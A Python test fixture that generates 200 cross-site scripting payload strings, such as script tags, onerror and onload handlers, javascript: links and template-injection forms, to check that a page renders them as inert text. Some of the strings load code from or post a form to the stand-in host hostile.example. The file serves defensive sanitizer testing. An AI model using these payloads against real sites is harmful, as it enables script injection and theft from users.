"""Two hundred texts that a page must take for nothing but text, each with a mark to find it by."""

from __future__ import annotations

from itertools import islice, product

RAN = "window.hostile=(window.hostile||0)+1"
FAR = "https://hostile.example/x"

_PAYLOADS = (
    "<script>{ran}</script>",
    "<script src={far}></script>",
    "<ScRiPt>{ran}</sCrIpT>",
    "<img src=x onerror={ran}>",
    "<img src={far}>",
    '<svg onload="{ran}"></svg>',
    "<svg><script>{ran}</script></svg>",
    "<svg><animate onbegin={ran} attributeName=x></svg>",
    "<iframe src={far}></iframe>",
    "<iframe srcdoc='<script>parent.{ran}</script>'></iframe>",
    "<a href=javascript:{ran}>x</a>",
    "<details open ontoggle={ran}>x</details>",
    "<video src={far} onerror={ran}></video>",
    "<input autofocus onfocus={ran}>",
    "<style>@import '{far}';</style>",
    "<link rel=stylesheet href={far}>",
    "<meta http-equiv=refresh content='0;url={far}'>",
    "<base href={far}>",
    "<object data={far}></object>",
    "<form action={far}><button>x</button></form>",
    "<math><mtext><img src=x onerror={ran}></mtext></math>",
    "<!--><img src=x onerror={ran}>-->",
    "<![CDATA[<img src=x onerror={ran}>]]>",
    "<table><tr><td background={far}>x",
    "<div style=\"background:url('{far}')\">x</div>",
    "javascript:{ran}",
    "data:text/html,<script>{ran}</script>",
    "${{{ran}}}",
    "{{{{ constructor.constructor('{ran}')() }}}}",
    "{{% for x in y %}}{ran}{{% endfor %}}",
    "$\\href{{javascript:{ran}}}{{x}}$",
    "$$\\bad{{{far}}}$$ \\(x\\) \\[y\\]",
    "[x](javascript:{ran}) ![x]({far})",
    "&lt;img src=x onerror={ran}&gt; &#60;b&#62; &amp;amp;",
    "<b>bold</b> <h1>large</h1>",
    "\u202e<txt.exe\u202c \u200f\u2066",
    "\x00<img src=x onerror={ran}>\x00",
    "<img\nsrc=x\r\nonerror={ran}\t>",
    "\ud7ff\ufeff\ufffe <img src=x onerror={ran}> \U0001f4a5",
    "{long}<img src=x onerror={ran}>",
)
_AROUND = ("{}", '"{}', "'>{}", '">{}<!--', "</td></dd></style></title></textarea>{}")


def hostile_texts() -> list[str]:
    """Return them; each ends with a mark such as ``[h017]``."""
    texts = [
        around.format(payload.format(ran=RAN, far=FAR, long="long " * 400))
        for around, payload in product(_AROUND, _PAYLOADS)
    ]
    return [f"{text}[h{number:03}]" for number, text in enumerate(islice(texts, 200))]
